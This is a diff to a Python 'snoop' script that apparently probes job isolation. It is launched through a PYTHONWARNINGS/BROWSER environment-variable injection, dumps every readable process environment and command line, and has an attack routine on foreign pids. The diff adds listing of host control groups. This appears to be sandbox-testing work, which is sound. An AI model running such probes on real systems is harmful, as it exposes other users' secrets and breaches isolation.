@@ -11,7 +11,8 @@ PYTHONWARNINGS/BROWSER trick on a builtin job. Driven by environment variables o
 - SNOOP_OUT: a file to print to instead of stdout (the BROWSER trick's process has no say)
 
 For each file it can read it prints `FILE path sha256 first-bytes`; every /proc/*/environ and
-cmdline, and its own environment. It ends with `SNOOP DONE`.
+cmdline, every control group it can list (`CGROUP path`), and its own environment. It ends
+with `SNOOP DONE`.
 """
 
 from __future__ import annotations
@@ -61,6 +62,17 @@ def procs(out) -> None:
                     pass
 
 
+def cgroups(out) -> None:
+    """The control groups it can list: on the host, every job node's (`job-ID-ATTEMPT-NODE`)
+    with its memory and process counts, and the host services'."""
+    seen = 0
+    for root, dirs, _files in os.walk("/sys/fs/cgroup"):
+        for name in dirs:
+            seen += 1
+            if seen <= 2000:
+                print(f"CGROUP {os.path.join(root, name)}", file=out)
+
+
 def attack(pids: list[int], out) -> None:
     libc = ctypes.CDLL(None, use_errno=True)
     for pid in pids:
@@ -94,6 +106,7 @@ def snoop() -> None:
     print(f"SNOOP uid={os.getuid()} pid={os.getpid()} warm={warm}", file=out)
     print(f"MYENV {dict(os.environ)!r}", file=out)
     procs(out)
+    cgroups(out)
     budget = [MAX_FILES]
     for target in filter(None, os.environ.get("SNOOP_TARGETS", "").split(":")):
         walk(target, out, budget)
